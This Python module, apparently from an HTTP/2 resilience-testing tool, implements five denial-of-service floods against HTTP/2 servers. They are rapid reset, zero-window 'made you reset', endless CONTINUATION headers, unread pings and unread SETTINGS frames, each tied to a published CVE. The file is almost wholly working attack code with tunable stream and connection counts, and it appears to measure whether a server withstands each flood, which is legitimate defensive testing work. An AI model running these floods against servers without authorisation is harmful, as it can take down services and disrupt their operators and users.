"""Many frames that cost their sender nothing."""

import asyncio

from siege.attack import Attack, Tally, Target
from siege.connection import FrameConnection
from siege.frames import (
    CONTINUATION,
    END_HEADERS,
    HEADERS,
    PING,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    call_frames,
    frame,
    header_block,
)
from siege.half_open import GET_RUN
from siege.several import connections, tally_of

CANCEL = (8).to_bytes(4, "big")
_CONNECTIONS = 10


async def reset_at_once(target: Target) -> Tally:
    """Open calls and reset each in the same breath (CVE-2023-44487)."""
    async with connections(target, _CONNECTIONS) as opened:
        for number in range(target.size // _CONNECTIONS):
            stream = 1 + 2 * number
            raw = call_frames(stream, GET_RUN, b"\x0a\x01x") + frame(RST_STREAM, 0, stream, CANCEL)
            for connection in opened:
                await connection.send(raw)
        await asyncio.sleep(target.hold_s)
        return tally_of(opened)


async def be_reset(target: Target) -> Tally:
    """Make the server reset calls, by a window that grows by nothing (CVE-2025-8671)."""
    async with connections(target, target.size // 100) as opened:
        for number in range(100):
            stream = 1 + 2 * number
            raw = call_frames(stream, GET_RUN, b"\x0a\x01x") + frame(WINDOW_UPDATE, 0, stream, bytes(4))
            for connection in opened:
                await connection.send(raw)
        await asyncio.sleep(target.hold_s)
        return tally_of(opened)


async def never_end_the_headers(target: Target) -> Tally:
    """Go on with a header block in frame after frame (CVE-2024-27316)."""
    async with FrameConnection(target.address) as connection:
        await connection.send(frame(HEADERS, 0, 1, header_block(GET_RUN)))
        piece = frame(CONTINUATION, 0, 1, (b"\x00\x01x\x7f\x81\x7f" + b"x" * 256) * 60)
        for _ in range(target.size):
            if not await connection.send(piece):
                break
        await connection.send(frame(CONTINUATION, END_HEADERS, 1))
        await asyncio.sleep(target.hold_s)
        return tally_of([connection])


async def ping(target: Target) -> Tally:
    """Send pings, and read none of the answers (CVE-2019-9512)."""
    return await _flood(target, frame(PING, 0, 0, bytes(8)))


async def settle(target: Target) -> Tally:
    """Send settings, and read none of the acknowledgements (CVE-2019-9515)."""
    return await _flood(target, frame(SETTINGS, 0, 0, b"\x00\x04\x00\x00\xff\xff"))


async def _flood(target: Target, raw: bytes) -> Tally:
    async with connections(target, _CONNECTIONS, reads=False) as opened:
        await asyncio.gather(*(_pour(connection, raw, target.size // _CONNECTIONS) for connection in opened))
        await asyncio.sleep(target.hold_s)
        return tally_of(opened)


async def _pour(connection: FrameConnection, raw: bytes, count: int) -> None:
    for _ in range(count // 100):
        # A server that takes no more has defended itself.
        try:
            async with asyncio.timeout(2):
                if not await connection.send(raw * 100):
                    return
        except TimeoutError:
            return


FLOODS = {
    "rapid reset": Attack(reset_at_once, 20_000, "calls reset in the same breath, on 10 connections"),
    "made you reset": Attack(be_reset, 2_000, "calls with a WINDOW_UPDATE of zero, on 20 connections"),
    "endless headers": Attack(never_end_the_headers, 3_000, "CONTINUATION frames of 16 KiB in one header block"),
    "pings": Attack(ping, 200_000, "pings whose answers nobody reads, on 10 connections"),
    "settings": Attack(settle, 200_000, "SETTINGS frames whose answers nobody reads, on 10 connections"),
}
